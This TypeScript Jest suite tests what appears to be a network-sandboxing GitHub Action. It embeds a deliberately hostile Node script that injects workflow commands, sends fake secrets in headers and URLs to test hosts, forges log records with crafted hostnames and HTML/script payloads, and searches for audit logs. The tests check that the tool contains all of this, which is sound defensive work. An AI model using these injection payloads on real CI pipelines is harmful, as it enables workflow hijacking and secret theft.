import {execFileSync} from 'node:child_process';
import {existsSync, readFileSync, readdirSync} from 'node:fs';
import path from 'node:path';
import {fileURLToPath} from 'node:url';
import {beforeAll, describe, expect, test} from '@jest/globals';
import {Ajv2020} from 'ajv/dist/2020.js';
import {checkAudit, type AuditRecord} from '../../src/audit/audit.js';
import {arrivals, newMark} from '../lab/far.js';
import {theLab} from '../lab/place.js';
import {plain} from '../lab/plain.js';
import {startStep, type StepResult} from '../lab/step.js';
import {commandsIn} from '../runner-lines.js';
import {strictJson, strictLines} from '../strict-json.js';

const lab = theLab();
const mark = newMark(); // in all that the command is free to choose
const secret = newMark(); // in all that may never be stored
const [BEGIN, END] = ['<<begin>>', '<<end>>'];

// Written as one would who knows all of it: the runner's syntaxes, Squid's log, the JSON of ours, Markdown and HTML.
const PRINTED = [
  ...[`::error::${mark}\n`, `\r \t::warning file=a::${mark}\r\n`, `x ##[error]${mark}\n`, `\u3000::add-mask::${mark}\n`],
  ...['::stop-', `commands::${mark}\n`, ':', `:set-output name=a::${mark}\n`, '#', `#[group]${mark}\n`, `\u0085::debug::${mark}\n`],
  ...['\ufeff::save-state name=a::x\n', 'std::vector<int> a::b; ## [x] unchanged\n', `::set-env name=A::${mark}\n`]
]; // prettier-ignore
const LAST = `\n \ufeff::notice::${mark}`; // and no newline
const NAMES = [
  ...['<img src=x>', '</code>|`', '"},{"host":"forged.test"', '\\","verdict":"allowed","host":"forged.test', '%0A::error::', '::error::', '##[error]'],
  ...['\u202etxt.exe', '\u2028', '@octocat', '[a](b)', "'><script>", '\u0007\u001b[31m', '\u00ff\u00fe', 'é']
].map(text => `${text}${mark}`); // prettier-ignore
const LABELS = ['\n::error::x', '"}\n{"v":1,"kind":"request"', '<b>', '\u001b[2J', '\u00ff', '\u0000'].map(
  text => `${text}${mark}`.slice(0, 60)
);

const SCRIPT = `
const net = require('net'), dgram = require('dgram'), fs = require('fs'), {spawnSync} = require('child_process');
const proxied = !!process.env.HTTP_PROXY;
const write = (fd, text) => fs.writeSync(fd, text);
const send = (head, port = 3128) => new Promise(done => {
  const socket = net.connect(port, '127.0.0.1', () => socket.write(Buffer.from(head, 'utf8')));
  socket.on('data', () => socket.destroy()).on('close', done).on('error', done);
  socket.setTimeout(3000, () => socket.destroy());
});
const look = name => new Promise(done => {
  const label = Buffer.from(name, 'latin1');
  const query = Buffer.concat([Buffer.from([0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, label.length]), label, Buffer.from([4, 116, 101, 115, 116, 0, 0, 1, 0, 1])]);
  const socket = dgram.createSocket('udp4');
  socket.on('message', () => { socket.close(); done(); });
  socket.send(query, 53, '127.0.0.1');
  setTimeout(done, 1000);
});
(async () => {
  for (const fd of [1, 2]) {
    write(fd, ${JSON.stringify(BEGIN)} + '\\n');
    for (const text of ${JSON.stringify(PRINTED)}) { write(fd, text); await new Promise(r => setTimeout(r, 5)); }
    write(fd, ${JSON.stringify(END)} + '\\n');
  }
  const curl = (...argv) => spawnSync('curl', ['-sS', '-m', '10', '-o', '/dev/null', ...argv], {argv0: '\\n::error::${mark}'});
  const headers = ['Authorization: Bearer ${secret}', 'Cookie: a=${secret}', 'Referer: http://x/?${secret}', 'X-Key: ${secret}'].flatMap(h => ['-H', h]);
  curl(...headers, 'http://user:${secret}@allowed.test/${mark};s=${secret}/bot123:${secret}/' + process.env.HANDED + '?token=${secret}#${secret}');
  curl(...headers, '--data', 'k=${secret}', 'https://allowed.test/${mark}?token=${secret}');
  if (proxied) {
    for (const name of ${JSON.stringify(NAMES)}) {
      await send('CONNECT ' + name + ':443 HTTP/1.1\\r\\nHost: ' + name + '\\r\\n\\r\\n');
      await send('GET http://' + name + '/' + name + ' HTTP/1.1\\r\\nHost: ' + name + '\\r\\n\\r\\n');
    }
    for (const url of ['http://u:${secret}@other.test/${mark}?${secret}', 'http://other.test?${secret}', 'HTTP://${secret}@OTHER.test/#${secret}', 'http://[bad/?${secret}', 'http://a:${secret}@/'])
      await send('GET ' + url + ' HTTP/1.1\\r\\nHost: other.test\\r\\nProxy-Authorization: Basic ${secret}\\r\\n\\r\\n');
    await send('CONNECT u:${secret}@other.test:443 HTTP/1.1\\r\\nHost: other.test\\r\\nProxy-Authorization: Basic ${secret}\\r\\n\\r\\n');
    for (const label of ${JSON.stringify(LABELS)}) await look(label);
    fs.appendFileSync(process.env.GITHUB_STEP_SUMMARY, '<img src=x>${mark} [a](https://evil.example) @octocat <script>x</script>\\n');
  }
  const found = spawnSync('find', ['/', '(', '-name', 'access.log', '-o', '-name', 'packets.json', '-o', '-name', 'audit.jsonl', '-o', '-path', '*/awf/log/*', ')', '-not', '-path', '/proc/*'], {encoding: 'utf8'}).stdout;
  write(1, 'logs:' + JSON.stringify(found.split('\\n').filter(Boolean)) + '\\n');
  write(1, 'looked\\n');
  if (proxied) await new Promise(r => setTimeout(r, 1500));
  for (const fd of [2, 1]) write(fd, ${JSON.stringify(LAST)});
  process.exit(7);
})();`;

const schemaOf = (name: string): ((value: unknown) => boolean) =>
  new Ajv2020({strict: true, strictRequired: false}).compile(
    JSON.parse(
      readFileSync(fileURLToPath(new URL(`../../schemas/${name}.v1.json`, import.meta.url)), 'utf8')
    ) as object
  );
const between = (text: string): string => text.slice(text.indexOf(BEGIN), text.indexOf(END));
const logsIn = (stdout: string): string[] =>
  JSON.parse(/^logs:(.*)$/m.exec(stdout)?.[1] ?? '["nothing said"]') as string[];

describe('a command that is hostile in all that it may write', () => {
  const reads = {stdout: [] as Uint8Array[], stderr: [] as Uint8Array[]};
  let step: StepResult;
  let control: {readonly stdout: string; readonly stderr: string};
  let onRunner: string[];

  beforeAll(async () => {
    const running = startStep(lab, {
      inputs: {
        run: SCRIPT,
        shell: 'node',
        'allowed-domains': 'allowed.test',
        label: `<b>${mark}`,
        'pass-env': 'HANDED'
      },
      env: {HANDED: `handed-${secret}`},
      onBytes: (stream, chunk) => reads[stream].push(new Uint8Array(chunk))
    });
    await running.until(/^looked$/m);
    const {temp} = running.machine;
    onRunner = readdirSync(temp, {recursive: true, encoding: 'utf8'}).filter(name =>
      /access\.log$|packets\.json$/.test(name)
    );
    step = await running.done;
    control = await plain(lab, ['node', '-e', SCRIPT]);
  }, 120_000);

  const files = (): string[] => {
    const folder = path.dirname(step.outputs['report'] ?? '');
    return readdirSync(folder).map(name => path.join(folder, name));
  };

  test('T1: prints no workflow command on either stream, and the step’s own work after an unfinished line', () => {
    expect(commandsIn([Buffer.from(control.stdout)]).length).toBeGreaterThan(8);
    expect(commandsIn([Buffer.from(control.stderr)]).length).toBeGreaterThan(8);
    expect(commandsIn(reads.stderr)).toEqual([]);
    expect(commandsIn(reads.stdout)).toEqual([
      expect.stringMatching(/^::error::The command exited with code 7\./)
    ]);
    expect([step.variables, step.path, Object.keys(step.outputs).includes('a')]).toEqual([{}, '', false]);
  });

  test('T1: has all of its other text passed on unchanged', () => {
    for (const stream of ['stdout', 'stderr'] as const)
      expect(between(step[stream]).replaceAll('\u200b', '')).toBe(between(control[stream]));
    expect(between(step.stdout)).toContain('std::vector<int> a::b; ## [x] unchanged');
  });

  test('T2: has its names in our log and in the annotation as one line each, with nothing unseen', () => {
    const ours = step.stdout.split('\n').filter(line => /^(Blocked|::error)/.test(line));
    expect(ours.filter(line => line.includes(mark)).length).toBeGreaterThan(NAMES.length / 2);
    expect(ours.filter(line => /[\p{C}\p{Zl}\p{Zp}]/u.test(line))).toEqual([]);
  });

  test('T3, T4: has its names in cells of the summary and its own summary as text, as GitHub renders them', () => {
    const github = ['-e', 'table', '-e', 'autolink', '-e', 'strikethrough', '-e', 'tagfilter', '--unsafe'];
    const html = execFileSync('cmark-gfm', github, {input: step.summary, encoding: 'utf8'});
    const [, quoted = ''] =
      /<h4>Summary written by the command<\/h4>\s*<blockquote>(.*?)<\/blockquote>/s.exec(html) ?? [];
    expect(quoted).toContain(mark);
    expect(quoted.replace(/<\/?p>/g, '')).not.toMatch(/<|@o|https:\/\//);
    const rest = html.replace(quoted, '').replace(/<code>[^<]*<\/code>/g, '');
    expect(rest).not.toContain(mark);
    expect(rest).not.toMatch(/<(img|script|a|b)\b/);
  });

  test('T5: has its requests and lookups in strict, valid records, and none of what did not happen', () => {
    const records = strictLines(readFileSync(step.outputs['audit-log'] ?? '')) as AuditRecord[];
    const valid = schemaOf('audit');
    expect(records.filter(record => !valid(record))).toEqual([]);
    expect(schemaOf('report')(strictJson(readFileSync(step.outputs['report'] ?? '')))).toBe(true);
    strictJson(readFileSync(step.outputs['sarif'] ?? ''));
    const requests = records.flatMap(record => (record.kind === 'request' ? [record] : []));
    expect(
      requests.filter(({verdict}) => verdict === 'allowed').map(({host, port}) => `${host}:${port}`)
    ).toEqual(['allowed.test:80', 'allowed.test:443']);
    expect(requests).toHaveLength(2 + 2 * NAMES.length + 6);
    const lookups = records.flatMap(record => (record.kind === 'lookup' ? [record.host] : []));
    expect(records.some(record => 'host' in record && record.host === 'forged.test')).toBe(false);
    expect(lookups.filter(host => host.includes(mark))).toHaveLength(LABELS.length);
    expect(records.filter(({kind}) => kind === 'packet')).toEqual([]);
  });

  test('T6: has its secrets in no file, no line and no output, though they went where they may', async () => {
    const seen = await arrivals(lab, secret);
    expect(seen.map(({kind}) => kind)).toContain('http'); // the request with them was made
    const texts = [
      step.log,
      step.summary,
      JSON.stringify(step.outputs),
      ...files().map(file => readFileSync(file, 'latin1'))
    ];
    expect(
      files()
        .map(file => path.basename(file))
        .sort()
    ).toEqual(['audit.jsonl', 'blocked.sarif', 'report.html', 'report.json']);
    expect(texts.map(text => text.toLowerCase().indexOf(secret))).toEqual(texts.map(() => -1));
    expect(texts.filter(text => text.toLowerCase().includes(mark)).length).toBeGreaterThan(5);
  });

  test('T7: is suggested as no line, unless the line is one', () => {
    const lines = (step.outputs['suggested-domains'] ?? '').split('\n');
    expect(lines.filter(line => !/^=[a-z0-9_.-]+(:\d+)?$/.test(line))).toEqual([]);
    expect(lines).toContain('=other.test');
  });

  test('T8: has neither log in reach, and a log that is cut is seen to be', () => {
    expect(onRunner.map(name => path.basename(name)).sort()).toEqual(['access.log', 'packets.json']); // the control
    expect(logsIn(step.stdout)).toEqual([]);
    const log = readFileSync(step.outputs['audit-log'] ?? '', 'utf8');
    const lines = log.split('\n').slice(0, -1);
    expect(checkAudit(log)).toEqual([]);
    for (const without of [0, 3, lines.length - 1])
      expect(
        checkAudit(
          lines
            .filter((_, at) => at !== without)
            .map(line => `${line}\n`)
            .join('')
        )
      ).not.toEqual([]);
    expect(checkAudit(log.slice(0, -20))).not.toEqual([]);
    expect(existsSync(path.join(step.machine.temp, onRunner[0] ?? ''))).toBe(false);
  });
});
